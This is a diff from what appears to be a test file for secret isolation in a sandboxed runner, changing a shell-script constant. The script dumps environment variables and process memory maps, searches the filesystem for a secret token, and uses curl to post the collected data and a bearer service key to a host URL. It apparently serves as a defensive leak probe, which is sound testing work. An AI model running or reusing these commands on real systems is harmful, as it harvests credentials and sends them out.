@@ -72,7 +72,7 @@ async function secretPlace(t: TestContext): Promise<(RunPlace & { readonly servi
 /** Prints what it has, looks everywhere, tells all of it to the host it may reach, and has itself told back what it sent. */
 const NOSY = `
 env; cat /proc/*/environ /proc/*/cmdline /proc/self/maps 2>/dev/null | tr '\\0' '\\n'
-grep -rs "live-Zx81" / --include='*' --exclude-dir=proc --exclude-dir=sys 2>/dev/null
+grep -rs "live-Zx81" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=node_modules 2>/dev/null
 { env; cat /proc/*/environ; } > seen.txt 2>/dev/null
 curl -sS -m 10 --data-binary @seen.txt "$URL/all"
 curl -sS -m 10 -D - -H "Authorization: Bearer $SERVICE_KEY" "$URL/echo"
